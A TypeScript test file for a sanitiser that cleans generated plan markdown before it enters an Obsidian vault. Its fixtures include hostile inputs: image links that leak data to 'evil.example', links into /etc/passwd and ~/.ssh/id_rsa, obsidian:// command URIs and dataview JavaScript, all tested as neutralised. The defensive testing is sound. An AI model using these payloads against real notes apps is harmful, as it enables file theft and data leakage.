import { describe, expect, test } from 'vitest';
import { validateCommandOutput } from '../../src/planning/command/command-output.js';

const LIMITS = { maxOutputBytes: 64 * 1024, truncated: false };
const PLAN = '## Objective\nPay it.\n\n## Steps\n- [ ] Pay the invoice\n';

function accept(output: string): string {
  const result = validateCommandOutput(output, LIMITS);
  if (!result.ok) throw new Error(`refused: ${result.reason}`);
  return result.body;
}

describe('validateCommandOutput: refusals', () => {
  test.each([
    ['empty', '', 'empty output'],
    ['blank lines', '\n \n\t\n', 'empty output'],
    ['only a frontmatter block', '---\nstatus: done\n---\n', 'empty output'],
    ['no step', '## Objective\nThink about it.\n', 'no "- [ ]" step'],
    ['a ticked step only', '## Steps\n- [x] Already done\n', 'no "- [ ]" step'],
    ['a step only inside a code block', 'Example:\n```\n- [ ] fake\n```\n', 'no "- [ ]" step'],
    ['lenient decoding (U+FFFD)', `${PLAN}\uFFFD`, 'output is not UTF-8'],
  ])('%s', (_name, output, reason) => {
    expect(validateCommandOutput(output, LIMITS)).toEqual({ ok: false, reason });
  });

  test('invalid UTF-8 bytes', () => {
    const bytes = Buffer.concat([Buffer.from(PLAN), Buffer.from([0xc3, 0x28])]);
    expect(validateCommandOutput(bytes, LIMITS)).toEqual({ ok: false, reason: 'output is not UTF-8' });
  });

  test.each([
    ['cut by the runner', PLAN, { maxOutputBytes: 64 * 1024, truncated: true }, 'output over 64 KB'],
    ['over the limit', PLAN + 'x'.repeat(2048), { maxOutputBytes: 1024, truncated: false }, 'output over 1 KB'],
  ])('oversize: %s', (_name, output, limits, reason) => {
    expect(validateCommandOutput(output, limits)).toEqual({ ok: false, reason });
  });
});

describe('validateCommandOutput: what is kept and what is neutralised', () => {
  test('a good plan is kept as written', () => {
    const plan = '## Objective\nPay it.\n\n## Steps\n- [ ] Check the amount 📅 2030-01-10 ⏫\n- [ ] Pay via [[Bank details]]\n- [ ] See [docs](https://example.com/a?b=1&c=2)\n';
    expect(accept(plan)).toBe(plan);
  });

  test.each([
    ['a wrapping ```markdown fence', '```markdown\n# Pay\n' + PLAN + '```\n'],
    ['a wrapping ~~~ fence', '~~~\n' + PLAN + '~~~'],
    ['its own frontmatter and title', '---\nstatus: done\nid: evil\nplanner: rules\n---\n# My title\n\n' + PLAN],
    ['a BOM and CRLF line ends', '\uFEFF' + PLAN.replace(/\n/g, '\r\n')],
    ['frontmatter inside a fence', '```md\n---\nstatus: done\n---\n' + PLAN + '```'],
  ])('strips %s', (_name, output) => {
    expect(accept(output)).toBe(PLAN);
  });

  test('control characters and bidi overrides are removed; a tab stays', () => {
    expect(accept(`## Steps\n- [ ] Pay\u0000 the\u001b[31m bill\u202e now\tok\n`)).toBe('## Steps\n- [ ] Pay the[31m bill now\tok\n');
  });

  test.each([
    ['a --- line (never frontmatter)', '---\n' + PLAN, '***\n' + PLAN],
    ['a second H1', PLAN + '# Also\n', PLAN + '## Also\n'],
    ['its own ## Source section', PLAN + '## Source\nx\n', PLAN + '## Source notes\nx\n'],
    ['an unclosed code fence (would swallow ## Source)', PLAN + '```\ncode\n', PLAN + '```\ncode\n```\n'],
    ['a dataviewjs block (runs in Obsidian)', PLAN + '```dataviewjs\ndv.paragraph(1)\n```\n', PLAN + '```\ndv.paragraph(1)\n```\n'],
    ['an unclosed HTML comment', PLAN + '<!-- hide\n', PLAN + '&lt;!-- hide\n'],
    ['an <img> tag', PLAN + '<img src="https://evil.example/p.png">\n', PLAN + '&lt;img src="https://evil.example/p.png">\n'],
    ['an Obsidian %% comment', PLAN + '%% hide\n', PLAN + '% % hide\n'],
    ['dataview inline JS', PLAN + 'Total: `$= dv.pages().length`\n', PLAN + 'Total: `\\$= dv.pages().length`\n'],
  ])('neutralises %s', (_name, output, body) => {
    expect(accept(output)).toBe(body);
  });

  test.each([
    ['- [ ] Read [[../../x]]', '- [ ] ` Read [[../../x]] `'],
    ['- [ ] Look ![[/etc/passwd]]', '- [ ] ` Look ![[/etc/passwd]] `'],
    ['See [[C:\\Windows\\win.ini]]', '` See [[C:\\Windows\\win.ini]] `'],
    ['See [[~/.ssh/id_rsa|keys]]', '` See [[~/.ssh/id_rsa|keys]] `'],
    ['See [[notes/%2e%2e/%2e%2e/x]]', '` See [[notes/%2e%2e/%2e%2e/x]] `'],
    ['- [ ] Open [it](file:///etc/passwd)', '- [ ] ` Open [it](file:///etc/passwd) `'],
    ['- [ ] Run [it](obsidian://advanced-uri?commandid=x)', '- [ ] ` Run [it](obsidian://advanced-uri?commandid=x) `'],
    ['- [ ] See ![](https://evil.example/p.png?d=secret)', '- [ ] ` See ![](https://evil.example/p.png?d=secret) `'],
    ['- [ ] [![ok](a.png)](obsidian://x)', '- [ ] ` [![ok](a.png)](obsidian://x) `'],
    ['- [ ] Open [it](&#x66;ile:///etc/passwd)', '- [ ] ` Open [it](&#x66;ile:///etc/passwd) `'],
    ['- [ ] Open [it](.\\./.\\./x)', '- [ ] ` Open [it](.\\./.\\./x) `'],
    ['- [ ] `a [[../x]] b`', '- [ ] `` `a [[../x]] b` ``'],
    ['[ref]: /etc/passwd', '` [ref]: /etc/passwd `'],
  ])('a link out of the vault becomes inline code, keeping the step: %s', (line, expected) => {
    const body = accept(`${PLAN}${line}\n`);
    expect(body).toBe(`${PLAN}${expected}\n`);
  });

  test.each([
    '- [ ] Read [[Notes/Meeting#Agenda|agenda]]',
    '- [ ] Look at ![[scan.pdf]]',
    '- [ ] See ![chart](Attachments/chart.png)',
    '- [ ] Mail [Ann](mailto:ann@example.com)',
  ])('a link inside the vault or to the web stays: %s', (line) => {
    expect(accept(`${PLAN}${line}\n`)).toBe(`${PLAN}${line}\n`);
  });
});
